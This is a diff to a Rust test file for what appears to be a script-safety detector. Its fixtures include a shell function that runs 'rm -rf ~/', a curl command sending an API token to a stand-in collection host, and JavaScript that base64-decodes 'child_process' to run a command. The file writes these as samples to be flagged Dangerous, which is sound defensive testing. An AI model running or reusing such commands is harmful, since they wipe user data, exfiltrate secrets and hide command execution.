@@ -60,12 +60,7 @@ fn a_call_of_the_scripts_own_function_is_not_the_program_of_that_name() {
             "secret-to-output",
         ),
         // The function's own body is still reviewed where it is defined.
-        (
-            Sh,
-            "wipe() { rm -rf ~/; }\nwipe\n",
-            Dangerous,
-            "",
-        ),
+        (Sh, "wipe() { rm -rf ~/; }\nwipe\n", Dangerous, ""),
     ]);
 }
 
@@ -163,6 +158,26 @@ fn tokens_of_documentation_hosts_and_vendor_libraries() {
         (
             Sh,
             "curl -fsS -H \"Authorization: Token $RTD_API_TOKEN\" https://collect.example.net/in\n",
+            Dangerous,
+            "",
+        ),
+    ]);
+}
+
+#[test]
+fn a_require_made_by_create_require_is_require() {
+    run(&[
+        // `require.resolve` of a package's manifest, then loaded: JSON data.
+        (
+            Js,
+            "import { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nconst manifest = require.resolve('@scope/tool/package.json');\nconsole.log(Object.keys(require(manifest).dependencies));\n",
+            Clean,
+            "",
+        ),
+        // Loading a module by a name assembled from decoded text is still caught.
+        (
+            Js,
+            "import { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nconst cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.execSync('id');\n",
             Dangerous,
             "",
         ),
